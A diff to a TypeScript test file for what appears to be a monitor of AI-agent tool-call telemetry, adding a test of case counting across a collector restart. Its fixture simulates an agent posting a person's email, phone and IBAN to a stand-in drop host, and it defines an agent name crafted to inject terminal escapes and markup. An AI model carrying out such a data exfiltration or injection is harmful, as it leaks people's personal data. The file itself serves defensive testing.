@@ -38,9 +38,15 @@ interface Listed {
 /** What an attacker may call an agent: an escape sequence, markup, a link, a line break, and very much of it. */
 const hostileAgent = `evil\u001b[2J<b>[x](http://y.example)|\n# h${'x'.repeat(1_000_000)}`;
 
-async function send(traceId: string, body: string, attributes: Readonly<Record<string, string>> = {}): Promise<void> {
+async function send(
+  traceId: string,
+  body: string,
+  attributes: Readonly<Record<string, string>> = {},
+  spanId?: string,
+): Promise<void> {
   const span = {
     traceId,
+    ...(spanId !== undefined && { spanId }),
     name: 'execute_tool http.post',
     kind: 3,
     attributes: {
@@ -151,4 +157,28 @@ test('what is wrong is said, with what to write', () => {
     assert.equal(code, 2, args.join(' '));
     assert.match(stderr, message);
   }
+});
+
+test('after kill -9 repeats go on counting, a span sent again counts once, and the case is the same', async () => {
+  const traceId = 'e0'.repeat(16);
+  const drill = { 'gen_ai.agent.name': 'drill-agent' };
+  const body = 'Max Roe, max.roe@example.org, +49 170 7654321, IBAN DE02 1203 0000 0000 2020 51';
+  const url = JSON.stringify({ url: 'https://drop.elsewhere.example/v1', body });
+  const sendSpan = (spanId: string, more = {}): Promise<void> =>
+    send(traceId, '', { ...drill, 'gen_ai.tool.call.arguments': url, ...more }, spanId);
+  await sendSpan('01'.repeat(8));
+  await sendSpan('02'.repeat(8));
+  const caseOf = async (count: number): Promise<Listed> =>
+    eventually(`a count of ${count}`, async () => {
+      const all = JSON.parse(cases('list', '--agent', 'drill-agent', '--json').stdout || '[]') as readonly Listed[];
+      assert.ok(all.length <= 1, 'it is one case');
+      return all[0] !== undefined && all[0].count >= count ? all[0] : undefined;
+    });
+  const before = await caseOf(2);
+  await collector.end('SIGKILL');
+  collector = await CollectorProcess.start(home);
+  await sendSpan('02'.repeat(8), { again: 'yes' });
+  await sendSpan('03'.repeat(8));
+  const after = await caseOf(3);
+  assert.deepEqual([after.id, after.findings, after.count], [before.id, before.findings, 3]);
 });
